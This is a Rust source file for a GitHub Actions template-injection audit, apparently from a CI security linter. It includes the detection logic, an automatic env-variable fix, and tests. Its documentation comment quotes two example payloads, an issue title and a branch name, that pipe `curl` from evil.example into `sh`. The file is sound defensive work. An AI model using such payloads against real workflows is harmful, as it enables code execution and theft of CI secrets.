use shipgate_model::{Confidence, Persona, Severity};

use crate::audit::{AuditMeta, Sink, audit_meta};
use crate::expr::{self, Expr};
use crate::fix::{Edit, Fix};
use crate::github::model::{Action, Job, Step, Workflow};
use crate::github::taint::{Dataflow, Place, Taint};
use crate::github::{AuditContext, GithubAudit};
use crate::shell::{self, Quoting};
use crate::yaml::{Document, Node, Style, Value};

audit_meta! {
    /// Finds `${{ }}` expressions whose value an outsider controls, expanded
    /// into code: `run:` scripts of workflows and composite actions, the
    /// `script:` of `actions/github-script`, and the code inputs of actions
    /// that evaluate them (`azure/cli`'s `inlineScript`,
    /// `appleboy/ssh-action`'s `script`, `nick-fields/retry`'s `command`…).
    ///
    /// The value is traced: directly (`github.event.issue.title`), through
    /// `env:` (step, job, workflow), through a step's writes to
    /// `$GITHUB_OUTPUT` or `$GITHUB_ENV`, through a job's `outputs:`
    /// (`needs.<job>.outputs.<o>`), through `strategy.matrix`, and from
    /// actions whose outputs are file names a pull request chooses
    /// (`tj-actions/changed-files`). A field is only reported when an event
    /// that carries it can start the workflow: `github.event.issue.title`
    /// under `on: push` is empty. Values with a fixed format (numbers, SHAs,
    /// `needs.*.result`, `steps.*.outcome`, GitHub logins) are never
    /// reported. Values that maintainers set (`inputs.*` of a reusable
    /// workflow or action, `vars.*`, undefined `env.*`) are reported to the
    /// auditor persona with low confidence.
    ///
    /// ## Why it matters
    /// GitHub substitutes `${{ }}` into the script text before the shell
    /// reads it, so the value becomes code. An issue titled
    /// `a"; curl -sSfL https://evil.example/x | sh; echo "` runs that
    /// command with the workflow's token and secrets. Branch names are just
    /// as dangerous: `$(curl${IFS}-sSfL${IFS}evil.example|sh)` is a valid
    /// branch name. Events such as `pull_request_target`, `issues`,
    /// `issue_comment` and `workflow_run` run with the base repository's
    /// privileges; plain `pull_request` runs with a read-only token, which
    /// makes the same finding less severe.
    ///
    /// ## Example
    /// ```yaml
    /// on: issues
    /// jobs:
    ///   triage:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "New issue: ${{ github.event.issue.title }}"   # flagged
    /// ```
    ///
    /// ## Fix
    /// Pass the value through the environment and let the shell expand it
    /// as data, quoted:
    ///
    /// ```yaml
    ///       - run: echo "New issue: ${ISSUE_TITLE}"
    ///         env:
    ///           ISSUE_TITLE: ${{ github.event.issue.title }}
    /// ```
    ///
    /// `shipgate fix` makes this rewrite for `run:` steps in POSIX shells.
    /// In `actions/github-script`, read `process.env.NAME` instead.
    pub(crate) static TEMPLATE_INJECTION = {
        id: "github/template-injection",
        title: "Untrusted expression expanded into code",
        severity: High,
        confidence: High,
        persona: Default,
        controls: ["CICD-SEC-4", "SSDF-PO.5", "SSDF-PW.7"],
    };
}

/// Action inputs that are code the action evaluates: `(owner/repo, input)`.
/// An owner of `*` matches any repository of that owner.
const CODE_INPUTS: &[(&str, &str)] = &[
    ("actions/github-script", "script"),
    ("azure/cli", "inlineScript"),
    ("azure/powershell", "inlineScript"),
    ("appleboy/ssh-action", "script"),
    ("garygrossgarten/github-action-ssh", "command"),
    ("nick-fields/retry", "command"),
    ("nick-invision/retry", "command"),
    ("Wandalen/wretry.action", "command"),
    ("mathiasvr/command-output", "run"),
    ("addnab/docker-run-action", "run"),
    ("uraimo/run-on-arch-action", "run"),
    ("cypress-io/github-action", "command"),
    ("cypress-io/github-action", "build"),
    ("cypress-io/github-action", "start"),
    ("jannekem/run-python-script-action", "script"),
    ("satackey/action-js-inline", "script"),
    ("cardinalby/js-eval-action", "expression"),
    ("vmactions/*", "run"),
];

pub(crate) struct TemplateInjection;

impl GithubAudit for TemplateInjection {
    fn meta(&self) -> &'static AuditMeta {
        &TEMPLATE_INJECTION
    }

    fn workflow(&self, _cx: &AuditContext<'_>, workflow: &Workflow<'_>, sink: &mut Sink) {
        let flow = Dataflow::for_workflow(workflow);
        for job in &workflow.jobs {
            let shell = default_shell(workflow, job);
            for step in &job.steps {
                let place = Place {
                    job: Some(job),
                    step: Some(step),
                };
                let scopes = EnvScopes {
                    job: job.env,
                    workflow: workflow.env,
                };
                check_step(workflow.doc, &flow, place, &shell, scopes, sink);
            }
        }
    }

    fn action(&self, _cx: &AuditContext<'_>, action: &Action<'_>, sink: &mut Sink) {
        let flow = Dataflow::for_action(action);
        for step in &action.steps {
            let place = Place {
                job: None,
                step: Some(step),
            };
            let scopes = EnvScopes {
                job: None,
                workflow: None,
            };
            check_step(action.doc, &flow, place, "", scopes, sink);
        }
    }
}

/// The `env:` mappings around a step, whose names a new variable must not
/// shadow.
#[derive(Clone, Copy)]
struct EnvScopes<'d> {
    job: Option<&'d Node>,
    workflow: Option<&'d Node>,
}

/// The shell a job's `run:` steps use when they name none: `defaults.run.shell`
/// of the job, then of the workflow, then the runner's default.
fn default_shell(workflow: &Workflow<'_>, job: &Job<'_>) -> String {
    let configured = |node: &Node| {
        node.get("defaults")
            .and_then(|d| d.get("run"))
            .and_then(|r| r.get("shell"))
            .and_then(Node::as_str)
            .map(str::to_owned)
    };
    if let Some(shell) = configured(job.node).or_else(|| configured(workflow.root)) {
        return shell;
    }
    let windows = job
        .runs_on
        .map(|r| {
            r.scalars().iter().any(|s| {
                s.as_str()
                    .is_some_and(|t| t.to_ascii_lowercase().contains("windows"))
            })
        })
        .unwrap_or(false);
    if windows {
        "pwsh".to_owned()
    } else {
        "bash".to_owned()
    }
}

fn check_step<'a, 'd>(
    doc: &Document,
    flow: &Dataflow<'a, 'd>,
    place: Place<'a, 'd>,
    default_shell: &str,
    scopes: EnvScopes<'d>,
    sink: &mut Sink,
) {
    let Some(step) = place.step else {
        return;
    };
    if let Some(run) = step.run {
        let shell = step.shell.and_then(Node::as_str).unwrap_or(default_shell);
        let posix = matches!(shell.split_whitespace().next().unwrap_or(""), "bash" | "sh");
        let sink_site = Site {
            node: run,
            symbolic: format!("{}.run", step.path),
            what: "this script",
            posix_shell: posix,
        };
        check_sink(doc, flow, place, &sink_site, scopes, sink);
    }
    let Some(with) = step.with else {
        return;
    };
    for entry in with.entries() {
        let Some(input) = entry.key.as_str() else {
            continue;
        };
        let evaluates_code = CODE_INPUTS.iter().any(|(slug, code_input)| {
            code_input.eq_ignore_ascii_case(input) && uses_matches(step, slug)
        });
        if evaluates_code {
            let site = Site {
                node: &entry.value,
                symbolic: format!("{}.with.{input}", step.path),
                what: "code this action evaluates",
                posix_shell: false,
            };
            check_sink(doc, flow, place, &site, scopes, sink);
        }
    }
}

fn uses_matches(step: &Step<'_>, slug: &str) -> bool {
    match slug.strip_suffix("/*") {
        Some(owner) => step.uses_ref().and_then(|u| u.slug()).is_some_and(|s| {
            s.split('/')
                .next()
                .is_some_and(|o| o.eq_ignore_ascii_case(owner))
        }),
        None => step.uses_action(slug),
    }
}

/// A place where expressions become code.
struct Site<'d> {
    node: &'d Node,
    symbolic: String,
    what: &'static str,
    posix_shell: bool,
}

fn check_sink<'a, 'd>(
    doc: &Document,
    flow: &Dataflow<'a, 'd>,
    place: Place<'a, 'd>,
    site: &Site<'d>,
    scopes: EnvScopes<'d>,
    sink: &mut Sink,
) {
    let Some(text) = site.node.as_str() else {
        return;
    };
    let found = expr::embedded(text);
    for (index, embedded) in found.iter().enumerate() {
        let Ok(parsed) = expr::parse(embedded.inner) else {
            continue;
        };
        let taint = flow.expression(&parsed, place);
        if taint == Taint::Safe {
            continue;
        }
        let whole = &text[embedded.range.clone()];
        let nth = found[..index]
            .iter()
            .filter(|e| &text[e.range.clone()] == whole)
            .count();
        let span = doc.locate_nth(site.node, whole, nth);
        let expression = embedded.inner.trim();
        match &taint {
            Taint::Safe => {}
            Taint::Unknown { source } => {
                sink.report(
                    &TEMPLATE_INJECTION,
                    span,
                    site.symbolic.clone(),
                    format!(
                        "`{expression}` is expanded into {} before it runs; `{source}` is set by whoever calls or configures this, which this file does not show",
                        site.what
                    ),
                )
                .severity(Severity::Medium)
                .confidence(Confidence::Low)
                .persona(Persona::Auditor)
                .note("Check who can set the value; passing it through `env:` removes the question.");
            }
            Taint::Attacker {
                free_text,
                source,
                via,
                privileged,
            } => {
                let kind = if *free_text {
                    "free text"
                } else {
                    "a branch, file or label name (no spaces, but `$(…)` fits)"
                };
                let via: Vec<&String> = via
                    .iter()
                    .filter(|v| !v.eq_ignore_ascii_case(expression))
                    .collect();
                let source = if source.contains(' ') {
                    source.clone()
                } else {
                    format!("`{source}`")
                };
                let message = if via.is_empty()
                    && source.trim_matches('`').eq_ignore_ascii_case(expression)
                {
                    format!(
                        "{source} is {kind} chosen by an outsider and is expanded into {} before it runs",
                        site.what
                    )
                } else if via.is_empty() {
                    format!(
                        "`{expression}` carries {source}, {kind} chosen by an outsider, into {} before it runs",
                        site.what
                    )
                } else {
                    format!(
                        "`{expression}` carries {source} (through `{}`), {kind} chosen by an outsider, into {} before it runs",
                        via.iter()
                            .map(|v| v.as_str())
                            .collect::<Vec<_>>()
                            .join("` → `"),
                        site.what
                    )
                };
                let finding =
                    sink.report(&TEMPLATE_INJECTION, span, site.symbolic.clone(), message);
                if !via.is_empty() {
                    finding.confidence(Confidence::Medium);
                }
                if !privileged {
                    finding.severity(Severity::Medium).note(
                        "Only `pull_request`-style events deliver it here, which run with a read-only token; it becomes critical if the workflow gains a privileged trigger.",
                    );
                }
                if site.posix_shell
                    && let Some(fix) = env_fix(doc, site, place, scopes, whole, &parsed)
                {
                    finding.fix(fix);
                }
            }
        }
    }
}

/// Names a new environment variable must not take: the shell's own and
/// the runner's.
const RESERVED_NAMES: &[&str] = &[
    "PATH", "HOME", "SHELL", "PWD", "OLDPWD", "IFS", "USER", "CI", "TERM", "LANG", "TMPDIR",
];
const RESERVED_PREFIXES: &[&str] = &["GITHUB_", "RUNNER_", "ACTIONS_", "INPUT_", "STATE_"];

/// Moves every occurrence of the expression `whole` in the `run:` script
/// to an environment variable of the step and expands that instead.
fn env_fix(
    doc: &Document,
    site: &Site<'_>,
    place: Place<'_, '_>,
    scopes: EnvScopes<'_>,
    whole: &str,
    parsed: &Expr,
) -> Option<Fix> {
    let step = place.step?;
    let script = site.node.as_str()?;
    let Value::Scalar(_, style) = &site.node.value else {
        return None;
    };
    let found = expr::embedded(script);
    let parsed_script = shell::pipelines(script);
    let occurrences: Vec<_> = found
        .iter()
        .filter(|e| &script[e.range.clone()] == whole)
        .collect();
    let source_text = doc.text(&site.node.span);
    if source_text.matches(whole).count() != occurrences.len() {
        return None;
    }
    let existing = existing_variable(parsed, step, scopes);
    let (name, define) = match existing {
        Some(name) => (name, false),
        None => match reusable_definition(step, whole) {
            Some(name) => (name, false),
            None => (fresh_name(parsed, step, scopes, script)?, true),
        },
    };
    let mut edits = Vec::new();
    // An unquoted expansion was split into words (`for f in ${{ … }}`); the
    // quoted variable is one word, so such a rewrite needs review.
    let mut splits_words = false;
    for (nth, occurrence) in occurrences.iter().enumerate() {
        if *style == Style::Plain && occurrence.range.start == 0 {
            return None;
        }
        let quoting = shell::quoting_at(&parsed_script, occurrence.range.start)?;
        splits_words |= quoting == Quoting::Bare;
        let shell_text = match quoting {
            Quoting::Bare => format!("\"${{{name}}}\""),
            Quoting::Double | Quoting::HereDocument => format!("${{{name}}}"),
            Quoting::Single => format!("'\"${{{name}}}\"'"),
        };
        let span = doc.locate_nth(site.node, whole, nth);
        if doc.text(&span) != whole {
            return None;
        }
        edits.push(Edit {
            range: span,
            replacement: escape_for(*style, &shell_text)?,
        });
    }
    let mut touches = vec![site.symbolic.clone()];
    if define {
        edits.push(env_insertion(doc, step, &name, whole)?);
        touches.push(format!("{}.env", step.path));
    }
    edits.sort_by_key(|e| e.range.start);
    Some(Fix {
        title: format!("pass `{}` to the script as `${name}`", parsed_text(whole)),
        safe: !splits_words,
        edits,
        touches,
    })
}

fn parsed_text(whole: &str) -> &str {
    whole
        .strip_prefix("${{")
        .and_then(|w| w.strip_suffix("}}"))
        .map_or(whole, str::trim)
}

/// For `${{ env.NAME }}` where `NAME` is defined in this file under a
/// name the shell can expand: that name.
fn existing_variable(parsed: &Expr, step: &Step<'_>, scopes: EnvScopes<'_>) -> Option<String> {
    let path = parsed.context_path()?;
    let wanted = path.strip_prefix("env.")?;
    [step.env, scopes.job, scopes.workflow]
        .into_iter()
        .flatten()
        .flat_map(Node::entries)
        .filter_map(|e| e.key.as_str())
        .find(|key| key.eq_ignore_ascii_case(wanted) && is_shell_name(key))
        .map(str::to_owned)
}

/// A step `env:` entry whose value is exactly `whole`, as a previous fix
/// of the same expression leaves.
fn reusable_definition(step: &Step<'_>, whole: &str) -> Option<String> {
    step.env?
        .entries()
        .find(|e| e.value.as_str() == Some(whole))
        .and_then(|e| e.key.as_str())
        .filter(|key| is_shell_name(key))
        .map(str::to_owned)
}

fn is_shell_name(name: &str) -> bool {
    name.chars()
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// Segment names too generic to stand alone, and what their parent object
/// is called in the variable name.
const GENERIC_LEAVES: &[&str] = &[
    "title",
    "body",
    "message",
    "name",
    "ref",
    "label",
    "email",
    "description",
    "text",
    "summary",
];

fn parent_word(parent: &str) -> &str {
    match parent {
        "pull_request" => "pr",
        "head_commit" => "commit",
        "workflow_run" => "run",
        other => other,
    }
}

/// A variable name from the expression's first value source
/// (`github.event.pull_request.title` → `PR_TITLE`), made unique among the
/// variables the step can see and the script expands.
fn fresh_name(
    parsed: &Expr,
    step: &Step<'_>,
    scopes: EnvScopes<'_>,
    script: &str,
) -> Option<String> {
    let path = parsed
        .value_sources()
        .into_iter()
        .find_map(Expr::context_path)
        .unwrap_or_else(|| "value".to_owned());
    let segments: Vec<&str> = path.split('.').filter(|s| *s != "*").collect();
    let leaf = segments.last().copied().unwrap_or("value");
    let base = if GENERIC_LEAVES.contains(&leaf) && segments.len() >= 2 {
        let parent = segments[segments.len() - 2];
        if matches!(parent, "github" | "event" | "outputs" | "inputs" | "env") {
            leaf.to_owned()
        } else {
            format!("{}_{leaf}", parent_word(parent))
        }
    } else {
        leaf.to_owned()
    };
    let mut base: String = base
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() {
                c.to_ascii_uppercase()
            } else {
                '_'
            }
        })
        .collect();
    if !base.starts_with(|c: char| c.is_ascii_alphabetic()) {
        base.insert_str(0, "VALUE_");
    }
    let taken: Vec<String> = [step.env, scopes.job, scopes.workflow]
        .into_iter()
        .flatten()
        .flat_map(Node::entries)
        .filter_map(|e| e.key.as_str())
        .map(str::to_ascii_uppercase)
        .chain(
            shell::variable_names(script)
                .into_iter()
                .map(str::to_ascii_uppercase),
        )
        .collect();
    let free = |candidate: &str| {
        !taken.iter().any(|t| t == candidate)
            && !RESERVED_NAMES.contains(&candidate)
            && !RESERVED_PREFIXES.iter().any(|p| candidate.starts_with(p))
    };
    if free(&base) {
        return Some(base);
    }
    (2..100)
        .map(|n| format!("{base}_{n}"))
        .find(|candidate| free(candidate))
}

/// `text` written inside a YAML scalar of `style`.
fn escape_for(style: Style, text: &str) -> Option<String> {
    Some(match style {
        Style::Plain | Style::Literal | Style::Folded => text.to_owned(),
        Style::SingleQuoted => text.replace('\'', "''"),
        Style::DoubleQuoted => text.replace('\\', "\\\\").replace('"', "\\\""),
    })
}

/// Column of byte `offset` in `source`.
fn column(source: &str, offset: usize) -> usize {
    offset - source[..offset].rfind('\n').map_or(0, |i| i + 1)
}

/// End of the line holding byte `offset`.
fn line_end(source: &str, offset: usize) -> usize {
    source[offset..]
        .find('\n')
        .map_or(source.len(), |i| offset + i)
}

/// `value` as a YAML scalar in block context: plain when that reads back
/// the same, else single-quoted.
fn block_scalar(value: &str) -> String {
    let plain = !value.contains(": ")
        && !value.contains(" #")
        && !value.contains('\n')
        && !value.ends_with(':')
        && value.trim() == value;
    if plain {
        value.to_owned()
    } else {
        flow_scalar(value)
    }
}

fn flow_scalar(value: &str) -> String {
    format!("'{}'", value.replace('\'', "''"))
}

/// The edit adding `name: value` to the step's `env:`, creating the
/// mapping when the step has none.
fn env_insertion(doc: &Document, step: &Step<'_>, name: &str, value: &str) -> Option<Edit> {
    let source = doc.source();
    let inside = |node: &Node, outer: &Node| {
        node.span.start >= outer.span.start && node.span.end <= outer.span.end
    };
    match step.env {
        Some(env) => {
            let text = doc.text(&env.span);
            let entries = env.as_map()?;
            if text.starts_with('{') && text.ends_with('}') {
                let separator = if entries.is_empty() { "" } else { ", " };
                let at = env.span.end - 1;
                return Some(Edit {
                    range: at..at,
                    replacement: format!("{separator}{name}: {}", flow_scalar(value)),
                });
            }
            let first = entries.first()?;
            if entries.iter().any(|e| !inside(&e.key, env)) {
                return None;
            }
            let indent = column(source, first.key.span.start);
            let last_end = entries.iter().map(|e| e.value.span.end).max()?;
            let at = line_end(source, last_end);
            Some(Edit {
                range: at..at,
                replacement: format!("\n{}{name}: {}", " ".repeat(indent), block_scalar(value)),
            })
        }
        None => {
            let entries = step.node.as_map()?;
            if doc.text(&step.node.span).starts_with('{') {
                return None;
            }
            let first = entries.first()?;
            if entries.iter().any(|e| !inside(&e.key, step.node)) {
                return None;
            }
            let indent = column(source, first.key.span.start);
            let last_end = entries.iter().map(|e| e.value.span.end).max()?;
            let at = line_end(source, last_end);
            let pad = " ".repeat(indent);
            Some(Edit {
                range: at..at,
                replacement: format!("\n{pad}env:\n{pad}  {name}: {}", block_scalar(value)),
            })
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::github::audit_workflow_text;

    fn fixes(source: &str) -> Vec<Fix> {
        audit_workflow_text(&TemplateInjection, source)
            .into_iter()
            .filter_map(|f| f.fix)
            .collect()
    }

    fn apply(source: &str, fix: &Fix) -> String {
        let mut out = source.to_owned();
        for edit in fix.edits.iter().rev() {
            out.replace_range(edit.range.clone(), &edit.replacement);
        }
        out
    }

    #[test]
    fn fix_creates_env_and_quotes_by_context() {
        let source = "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - name: greet\n        run: |\n          echo \"Title: ${{ github.event.issue.title }}\"\n          echo ${{ github.event.issue.title }}\n          echo 'x ${{ github.event.issue.title }} y'\n      - run: ls\n";
        let found = fixes(source);
        assert_eq!(found.len(), 3, "one finding per occurrence");
        let fixed = apply(source, &found[0]);
        assert_eq!(
            fixed,
            "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - name: greet\n        run: |\n          echo \"Title: ${ISSUE_TITLE}\"\n          echo \"${ISSUE_TITLE}\"\n          echo 'x '\"${ISSUE_TITLE}\"' y'\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}\n      - run: ls\n"
        );
        assert!(Document::parse(&fixed).is_ok());
        assert!(fixes(&fixed).is_empty());
        assert!(!found[0].safe, "the unquoted use was split into words");
        assert_eq!(
            found[0].touches,
            vec!["jobs.a.steps[0].run", "jobs.a.steps[0].env"]
        );
    }

    #[test]
    fn fix_adds_to_an_existing_env_and_avoids_clashes() {
        let source = "on: pull_request_target\njobs:\n  a:\n    steps:\n      - env:\n          HEAD_REF: other # kept\n        run: git checkout ${{ github.head_ref }} && echo $HEAD_REF\n";
        let found = fixes(source);
        assert!(!found[0].safe);
        let fixed = apply(source, &found[0]);
        assert_eq!(
            fixed,
            "on: pull_request_target\njobs:\n  a:\n    steps:\n      - env:\n          HEAD_REF: other # kept\n          HEAD_REF_2: ${{ github.head_ref }}\n        run: git checkout \"${HEAD_REF_2}\" && echo $HEAD_REF\n"
        );
    }

    #[test]
    fn env_references_become_shell_variables() {
        let source = "on: issues\nenv:\n  BODY: ${{ github.event.issue.body }}\njobs:\n  a:\n    steps:\n      - run: echo \"${{ env.BODY }}\"\n";
        let found = fixes(source);
        let fixed = apply(source, &found[0]);
        assert!(fixed.contains("run: echo \"${BODY}\"\n"), "{fixed}");
        assert_eq!(found[0].touches, vec!["jobs.a.steps[0].run"]);
        assert!(found[0].safe, "already quoted: same word either way");
    }

    #[test]
    fn no_fix_where_the_rewrite_is_unsound() {
        let quoted_heredoc = "on: issues\njobs:\n  a:\n    steps:\n      - run: |\n          cat <<'EOF'\n          ${{ github.event.issue.title }}\n          EOF\n";
        assert!(fixes(quoted_heredoc).is_empty());
        let windows = "on: issues\njobs:\n  a:\n    runs-on: windows-latest\n    steps:\n      - run: echo ${{ github.event.issue.title }}\n";
        assert!(fixes(windows).is_empty());
        let plain_start =
            "on: issues\njobs:\n  a:\n    steps:\n      - run: ${{ github.event.issue.title }}\n";
        assert!(fixes(plain_start).is_empty());
    }

    #[test]
    fn flow_env_gets_a_quoted_entry() {
        let source = "on: issues\njobs:\n  a:\n    steps:\n      - env: {A: b}\n        run: \"echo ${{ github.event.issue.body }}\"\n";
        let found = fixes(source);
        let fixed = apply(source, &found[0]);
        assert!(
            fixed.contains("env: {A: b, ISSUE_BODY: '${{ github.event.issue.body }}'}"),
            "{fixed}"
        );
        assert!(
            fixed.contains("run: \"echo \\\"${ISSUE_BODY}\\\"\""),
            "{fixed}"
        );
        let doc = Document::parse(&fixed).expect("valid");
        let run = doc
            .root()
            .and_then(|r| r.get("jobs"))
            .and_then(|j| j.get("a"))
            .and_then(|a| a.get("steps"))
            .and_then(|s| s.as_seq())
            .and_then(|s| s[0].get("run"))
            .and_then(Node::as_str)
            .expect("run");
        assert_eq!(run, "echo \"${ISSUE_BODY}\"");
    }
}
